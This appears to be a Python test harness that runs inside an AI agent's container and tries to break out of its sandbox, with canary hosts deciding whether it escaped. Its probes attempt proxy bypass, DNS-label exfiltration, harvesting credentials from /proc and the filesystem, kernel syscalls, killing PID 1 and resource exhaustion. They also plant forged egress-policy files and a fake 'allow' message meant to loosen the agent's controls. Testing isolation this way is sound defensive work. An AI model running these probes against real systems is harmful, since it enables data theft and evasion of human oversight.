"""The attacker: runs in the agent's container as one program, with nothing but Python. It tells what the kernel said.

What it tells is compared, but it is not what decides: the canaries on the host do.
"""

import ctypes
import errno
import hashlib
import json
import os
import re
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from typing import Any

TOLD: dict[str, Any] = json.loads(sys.argv[1])
"""Addresses of the canaries, the hash of the secret, numbers of system calls."""
SECONDS = 4
PROBES: dict[str, Callable[[], object]] = {}


def probe(name: str) -> Callable[[Callable[[], object]], Callable[[], object]]:
    def keep(function: Callable[[], object]) -> Callable[[], object]:
        PROBES[name] = function
        return function

    return keep


def failing(attempt: Callable[[], object]) -> str:
    """The name of the error, or `done`."""
    try:
        attempt()
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, type(exc).__name__)
    return "done"


def connecting(address: tuple[Any, ...], family: int = socket.AF_INET) -> str:
    def attempt() -> None:
        with socket.socket(family) as sock:
            sock.settimeout(SECONDS)
            sock.connect(address)
            sock.sendall(b"GET /escaped HTTP/1.1\r\nHost: canary\r\n\r\n")

    return failing(attempt)


def sending(address: tuple[Any, ...], data: bytes, family: int = socket.AF_INET) -> str:
    def attempt() -> None:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.sendto(data, address)

    return failing(attempt)


def ran(*argv: str, **env: str) -> str:
    """The status and the end of what it says."""
    done = subprocess.run(
        argv,
        capture_output=True,
        text=True,
        check=False,
        timeout=20,
        env={**os.environ, **env},
    )
    return f"{done.returncode} {(done.stdout + done.stderr).strip()[-300:]}"


def calling(name: str, *arguments: Any) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    value = libc.syscall(ctypes.c_long(TOLD["calls"][name]), *words)
    return "done" if value != -1 else errno.errorcode[ctypes.get_errno()]


CANARY = (TOLD["host"], TOLD["http"])
DNS = (TOLD["host"], TOLD["dns"])
QUERY = bytes.fromhex("0001010000010000000000000663616e61727904746573740000010001")


@probe("1")
def _direct() -> object:
    return {connecting(to) for to in (CANARY, ("192.0.2.1", 443), ("198.51.100.1", 22))}


@probe("1u")
def _direct_datagrams() -> object:
    return {sending(to, QUERY) for to in (DNS, ("192.0.2.1", 53), ("192.0.2.1", 443))}


@probe("2")
def _without_proxy() -> object:
    url = f"http://{CANARY[0]}:{CANARY[1]}/escaped"
    settings: tuple[dict[str, str], ...] = (
        {"NO_PROXY": "*"},
        {"ALL_PROXY": ""},
        {"HTTPS_PROXY": "", "http_proxy": f"http://{CANARY[0]}:{CANARY[1]}"},
        {"ALL_PROXY": f"socks5h://{CANARY[0]}:{CANARY[1]}"},
    )
    argv = ("curl", "-sS", "-m", "4", "-o", "/dev/null")
    said = [ran(*argv, url, **env) for env in settings]
    said.append(ran(*argv, "--noproxy", "*", url))
    return {text.split()[0] for text in said}


@probe("3")
def _metadata() -> object:
    four = {connecting((a, 80)) for a in ("169.254.0.1", "100.64.0.1", "192.0.0.1", "198.18.0.1")}
    return four | {connecting(("2001:db8::1", 80), socket.AF_INET6)}


@probe("4")
def _raw_sockets() -> object:
    kinds = ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 768), (17, 2, 0), (2, 2, 1))
    return {failing(lambda k=kind: socket.socket(*k).close()) for kind in kinds}  # type: ignore[misc]  # a default


@probe("5")
def _odd_families() -> object:
    families = (21, 29, 30, 31, 38, 40, 42, 43, 44, 15, 9, 3, 4, 5, 36, 37)
    found = {failing(lambda f=f: socket.socket(f, 2).close()) for f in families}  # type: ignore[misc]  # as above
    netlink = {failing(lambda p=p: socket.socket(16, 3, p).close()) for p in (2, 4, 9, 12, 16)}  # type: ignore[misc]  # as above
    return found | netlink


@probe("6")
def _abstract_sockets() -> object:
    def attempt() -> None:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect("\0" + TOLD["abstract"])

    return failing(attempt)


@probe("7")
def _version_6() -> object:
    others = [n for n in os.listdir("/sys/class/net") if n != "lo"]
    return others + sorted(
        {connecting((a, 80), socket.AF_INET6) for a in ("2001:db8::1", "ff02::1")}
    )


@probe("9")
def _network_changes() -> object:
    unshared = {calling("unshare", flag) for flag in (0x40000000, 0x10000000, 0x00020000)}

    def route() -> None:
        with socket.socket(16, 3, 0) as sock:
            # RTM_NEWLINK of a dummy interface, with the flags to create it.
            sock.bind((0, 0))
            sock.send(
                bytes.fromhex("34000000100005060100000000000000")
                + bytes(16)
                + bytes.fromhex("1400120009000100") + b"dummy\0\0\0\0\0\0\0"
            )  # fmt: skip
            code = int.from_bytes(sock.recv(4096)[16:20], "little", signed=True)
            if code:
                raise OSError(-code, "refused")

    return unshared | {failing(route)}


@probe("10")
def _forwarder_killed() -> object:
    found = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid() and b"acceptor" in _read(f"/proc/{p}/cmdline")]  # fmt: skip
    return [found, failing(lambda: socket.create_server(("127.0.0.1", 443)).close()), failing(_killing_the_first)]  # fmt: skip


def _killing_the_first() -> None:
    os.kill(1, 9)
    os.stat("/proc/1")


@probe("11")
def _other_sockets() -> object:
    found = []
    for folder, folders, names in os.walk("/"):
        folders[:] = [n for n in folders if os.path.join(folder, n) not in {"/proc", "/sys"}]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    found.append(path)
            except OSError:
                continue
    named = [p for p in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd", "/run/dbus", "/run/systemd/private") if os.path.exists(p)]  # fmt: skip
    return found + named


@probe("12")
def _dns() -> object:
    found = {sending((a, 53), QUERY) for a in (TOLD["host"], "192.0.2.53")}
    found |= {connecting((TOLD["host"], port)) for port in (53, 853)}
    address = socket.getaddrinfo("c2VjcmV0.exfiltrated.test", 80)[0][4][0]
    return [sorted(found), str(address).split(".")[0]]


@probe("13")
def _names_as_data() -> object:
    url = "c2vjcmv0.never.test/"
    written = ("-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}")
    return [ran("curl", *written, f"{scheme}://{url}").split()[-1] for scheme in ("http", "https")]


@probe("19b")
def _other_ports() -> object:
    address = str(socket.getaddrinfo("registry.example.test", 80)[0][4][0])
    return {connecting((address, port)) for port in (22, 25, 53, 853, 2375, 6379, 8080, 65535)} - {"done"}  # fmt: skip


def _read(path: str, most: int = 1 << 20) -> bytes:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    except OSError:
        return b""
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            return b""
        return os.read(fd, most)
    except OSError:
        return b""
    finally:
        os.close(fd)


def _readable() -> Iterator[bytes]:
    for process in os.listdir("/proc"):
        if process.isdigit() or process == "self":
            for name in ("environ", "cmdline", "status", "maps"):
                yield _read(f"/proc/{process}/{name}")
    for root in ("/etc", "/home", "/root", "/run", "/tmp", "/workspace", "/opt", "/var", "/mirror", "/srv", "/dev/shm"):  # fmt: skip
        for folder, _, names in os.walk(root):
            yield from (_read(os.path.join(folder, name)) for name in names)


@probe("36")
def _credentials() -> object:
    pattern = re.compile(rb"canary-[0-9a-f]{32}")
    found = {text for data in _readable() for text in pattern.findall(data)}
    hits = [text.decode() for text in found if hashlib.sha256(text).hexdigest() == TOLD["sha256"]]
    return [len(hits), [p for p in ("~/.netrc", "~/.git-credentials", "~/.ssh", "~/.docker") if os.path.exists(os.path.expanduser(p))]]  # fmt: skip


@probe("36b")
def _first_process() -> object:
    return sorted(
        {failing(lambda n=n: open(f"/proc/1/{n}", "rb").read(1)) for n in ("environ", "mem", "maps", "fd/0", "root/etc/hostname")}  # type: ignore[misc]
    )  # fmt: skip


@probe("45")
def _read_only() -> object:
    places = ("/x", "/usr/x", "/etc/passwd", "/opt/errand/x", "/mirror/x", "/run/trust/x", "/etc/resolv.conf", "/etc/hosts")  # fmt: skip
    written = {failing(lambda p=p: open(p, "a").close()) for p in places}  # type: ignore[misc]
    # MS_REMOUNT | MS_BIND, and the ways to unmount.
    mounts = {
        calling("mount", b"none", b"/", b"", 0x1020, b""),
        calling("umount2", b"/run/trust", 2),
    }
    return [sorted(written), sorted(mounts)]


@probe("51")
def _mounts() -> object:
    named = (
        "fsopen",
        "fsmount",
        "move_mount",
        "open_tree",
        "pivot_root",
        "chroot",
        "mount_setattr",
    )
    return {calling(name, -1, 0, 0, 0, 0) for name in named}


@probe("52")
def _kernel() -> object:
    named = ("bpf", "perf_event_open", "userfaultfd", "keyctl", "add_key", "request_key", "process_vm_readv", "process_vm_writev", "kexec_load", "init_module", "finit_module", "open_by_handle_at", "name_to_handle_at", "io_uring_setup", "setns", "kcmp", "fanotify_init", "swapon", "reboot")  # fmt: skip
    return {calling(name, -1, 0, 0, 0, 0) for name in named}


@probe("53")
def _kernel_files() -> object:
    places = ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs", "/proc/1/oom_score_adj", "/proc/sys/net/ipv4/ip_forward")  # fmt: skip
    written = {failing(lambda p=p: open(p, "w").close()) for p in places if os.path.exists(p)}  # type: ignore[misc]
    read = sum(len(_read(p, 16)) for p in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware/x"))  # fmt: skip
    return [sorted(written), read]


@probe("54")
def _leaked_descriptors() -> object:
    links = [os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{n}")]  # fmt: skip
    odd = [link for link in links if not link.startswith(("pipe:", "/dev/null", "/proc/"))]
    return [odd, failing(lambda: open("/proc/1/exe", "r+b").close())]


@probe("55")
def _set_user() -> object:
    found = []
    for folder, folders, names in os.walk("/"):
        folders[:] = [n for n in folders if os.path.join(folder, n) not in {"/proc", "/sys"}]
        paths = (os.path.join(folder, name) for name in names)
        found += [p for p in paths if not os.path.islink(p) and os.path.exists(p) and os.lstat(p).st_mode & 0o6000]  # fmt: skip
    return [found, failing(lambda: os.setuid(0)), failing(lambda: os.setgroups([0]))]


@probe("56")
def _standing() -> object:
    status = dict(line.split(":", 1) for line in _read("/proc/self/status").decode().splitlines())
    wanted = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return [int(status[name].strip(), 16) for name in wanted] + [os.getuid(), os.getgroups()]


@probe("59")
def _words() -> object:
    return TOLD["words"]


@probe("61")
def _full() -> object:
    said = []
    for place in ("/workspace/full", "/tmp/full", "/dev/shm/full", "/home/agent/full"):
        size, block = 0, bytes(1 << 20)
        try:
            with open(place, "wb", buffering=0) as file:
                while size < 300 << 20:
                    size += file.write(block)
        except OSError as exc:
            said.append(errno.errorcode[exc.errno or 0])
        finally:
            if os.path.exists(place):
                os.unlink(place)
    return sorted(set(said))


@probe("61b")
def _inodes() -> object:
    made = 0
    try:
        for made in range(200_000):
            os.close(os.open(f"/tmp/i{made}", os.O_CREAT | os.O_WRONLY))
    except OSError as exc:
        return errno.errorcode[exc.errno or 0]
    finally:
        for number in range(made):
            os.unlink(f"/tmp/i{number}")
    return "done"


@probe("71")
def _policy_of_its_own() -> object:
    os.makedirs("/workspace/web", exist_ok=True)
    for name in (".errand.yml", "AGENTS.md", "policy.yml"):
        with open(f"/workspace/web/{name}", "w") as file:
            file.write("egress: {hosts: [{host: opened.test}]}\n# The network is allowed.\n")
    return ran(
        "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://opened.test/"
    ).split()[-1]


@probe("72")
def _speaking_for_the_worker() -> object:
    message = {
        "key": "allow:1",
        "to": "init",
        "msg": {"do": "allow", "rule": {"host": "approved.test"}},
    }
    line = json.dumps(message)
    print(line, flush=True)
    for place in ("/proc/1/fd/0", "/proc/1/fd/1", "/dev/console", "/dev/stdin"):
        failing(lambda p=place: open(p, "w").write(line + "\n"))  # type: ignore[misc]
    return ran("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://approved.test/").split()[-1]  # fmt: skip


@probe("x10")
def _devices() -> object:
    usual = {"console", "core", "fd", "full", "mqueue", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero"}  # fmt: skip
    made = failing(lambda: os.mknod("/workspace/d", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
    return [sorted(set(os.listdir("/dev")) - usual), made]


@probe("x11")
def _handed_descriptors() -> object:
    """Passing a descriptor to a process of another namespace needs a socket of it."""
    return [line.split()[-1] for line in _read("/proc/net/unix").decode().splitlines()[1:] if "/" in line.split()[-1] or "@" in line]  # fmt: skip


@probe("x12")
def _x32() -> object:
    pid = os.fork()
    if not pid:
        ctypes.CDLL(None).syscall(0x40000000 | 39)
        os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


@probe("x13")
def _many_names() -> object:
    """More names than the acceptor keeps."""
    found: set[str] = set()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(SECONDS)
        for number in range(5000):
            label = b"n%d" % number
            query = QUERY[:12] + bytes([len(label)]) + label + b"\x04test\0" + QUERY[-4:]
            sock.sendto(query, ("127.0.0.1", 53))
            found.add(str(sock.recv(512)[3] & 15))
    return sorted(found)


@probe("x14")
def _broken_dns() -> object:
    """Questions that are none: compression loops, no end, too many, answers instead of questions."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(SECONDS)
        for data in (b"", b"\0", QUERY[:12] + b"\xc0\x0c" + QUERY[-4:], QUERY[:12] + b"\x3f" + bytes(10), QUERY[:4] + b"\0\x09" + QUERY[6:], b"\0" * 4096):  # fmt: skip
            sock.sendto(data, ("127.0.0.1", 53))
        sock.sendto(b"\x77\x77" + QUERY[2:], ("127.0.0.1", 53))
        while True:
            reply = sock.recv(4096)
            if reply[:2] == b"\x77\x77":
                return reply[3] & 15


@probe("x15")
def _core_dump() -> object:
    pid = os.fork()
    if not pid:
        os.chdir("/workspace")
        os.abort()
    _, status = os.waitpid(pid, 0)
    return [os.WCOREDUMP(status), [n for n in os.listdir("/workspace") if n.startswith("core")]]


@probe("x16")
def _threads() -> object:
    """Threads count as processes."""
    hold, made = threading.Event(), 0
    try:
        for made in range(5000):
            threading.Thread(target=hold.wait, daemon=True).start()
    except RuntimeError:
        return 0 < made < TOLD["pids"]
    finally:
        hold.set()
    return "done"


def main() -> None:
    said = {}
    for name, function in PROBES.items():
        try:
            found = function()
        except (OSError, ValueError, KeyError, subprocess.SubprocessError) as exc:
            found = f"{type(exc).__name__}: {exc}"
        said[name] = sorted(found) if isinstance(found, set) else found
    print("\n" + json.dumps(said))


if __name__ == "__main__":
    main()
